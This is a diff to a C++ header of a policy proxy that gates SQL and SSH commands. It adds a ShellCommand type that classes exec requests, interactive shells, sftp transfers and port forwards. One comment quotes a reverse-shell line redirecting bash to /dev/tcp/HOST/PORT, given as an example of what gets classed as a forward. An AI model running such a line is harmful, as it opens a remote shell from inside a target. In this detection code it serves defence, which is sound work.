@@ -1,6 +1,7 @@
 // Command: what a caller asked for. A common part every rule can match (protocol, connection,
-// text) and a part of its protocol's kind: the SQL facts of a statement today; the command
-// line of an SSH or kubectl exec, or a Kubernetes request's attributes, as front ends come.
+// text) and a part of its protocol's kind: the SQL facts of a statement, or the command line
+// or operation of an SSH session; a kubectl exec, or a Kubernetes request's attributes, as
+// front ends come.
 // Front ends build one per command they are about to forward; the decision point, the
 // journal and approvals read it.
 #pragma once
@@ -13,6 +14,7 @@
 #include <variant>
 #include <vector>
 
+#include "shell/command_line.h"
 #include "sql/statement.h"
 
 namespace portcullis::policy {
@@ -41,20 +43,67 @@ struct SqlCommand {
   std::vector<std::optional<uint64_t>> estimated_rows;
 };
 
+// The SSH part: a command line the target's shell is to run (an exec request, or a line typed
+// at an interactive shell's prompt), or an SSH operation that is not a command line (opening an
+// interactive shell, an sftp or scp file operation, a port forward). Built by the builders
+// below, which keep the classes true to the line; a front end only picks the builder.
+struct ShellCommand {
+  // What is asked, in the journal's words: "exec" (a command line), "shell", "sftp_read",
+  // "sftp_write", "forward".
+  std::string kind;
+  // The command line as the shell reader found it; null for an operation that is not one.
+  std::shared_ptr<const shell::CommandLine> line;
+  // The ssh classes the command needs, sorted and without repeats: exec, shell, file_write,
+  // sftp, forward, unknown. The grant must allow every one of them.
+  std::vector<std::string> classes;
+  // The paths a file operation names (an sftp write's file, a rename's both ends), normalised
+  // as shell::normalise_path does, for guardrails on `paths`. Empty for a command line: its
+  // paths are read from its commands.
+  std::vector<std::string> paths;
+
+  bool needs(std::string_view name) const;
+};
+
+// A command line (an exec request's, or one typed at a shell's prompt). Classes: exec; plus
+// file_write when an output redirection writes a file (not /dev/null); forward when a
+// redirection to /dev/tcp/HOST/PORT or /dev/udp/... opens a connection from the target, since
+// that reaches other hosts from inside as a port forward does (the reverse shell
+// `bash -i >& /dev/tcp/HOST/PORT 0>&1`); unknown when the reader cannot tell what it runs.
+ShellCommand read_shell_command(std::string_view line);
+
+// Opening an interactive shell: class shell. What is typed at its prompt is decided line by
+// line, best effort, with read_shell_command.
+ShellCommand open_shell();
+
+// An sftp or scp file operation on `paths`: class sftp, and file_write when it writes
+// (creates, changes, renames or removes a file, or changes its attributes).
+ShellCommand transfer_files(bool writes, std::vector<std::string> paths);
+
+// A port forward (local or remote, tcpip or streamlocal): class forward.
+ShellCommand forward_port();
+
+// The programs a shell command runs, each once in the order the line runs them, wrappers
+// (sudo, env, ...) included: a name as shell::program_name gives it, or the program word as
+// written when it has none (`./run.sh`, `$CMD`). For the journal; empty for an operation.
+std::vector<std::string> programs_run(const ShellCommand& command);
+
 struct Command {
   // The common part every rule can match.
-  std::string_view protocol;  // the front end's name: "postgres"
+  std::string_view protocol;  // the front end's name: "postgres", "ssh"
   std::string connection;     // name of the connection in the configuration
   std::string text;           // the full text as the caller sent it
   // How it arrived, in the protocol's own words, for logs and tests: for PostgreSQL "query"
-  // (simple protocol), "parse", "execute" (extended protocol), "function_call".
+  // (simple protocol), "parse", "execute" (extended protocol), "function_call"; for SSH the
+  // request ("exec", "shell", "sftp", "forward").
   std::string_view via;
   Intent intent = Intent::run;
   // The protocol's part.
-  std::variant<SqlCommand> detail;
+  std::variant<SqlCommand, ShellCommand> detail;
 
   const SqlCommand* sql() const { return std::get_if<SqlCommand>(&detail); }
   SqlCommand* sql() { return std::get_if<SqlCommand>(&detail); }
+  const ShellCommand* shell() const { return std::get_if<ShellCommand>(&detail); }
+  ShellCommand* shell() { return std::get_if<ShellCommand>(&detail); }
 };
 
 }  // namespace portcullis::policy
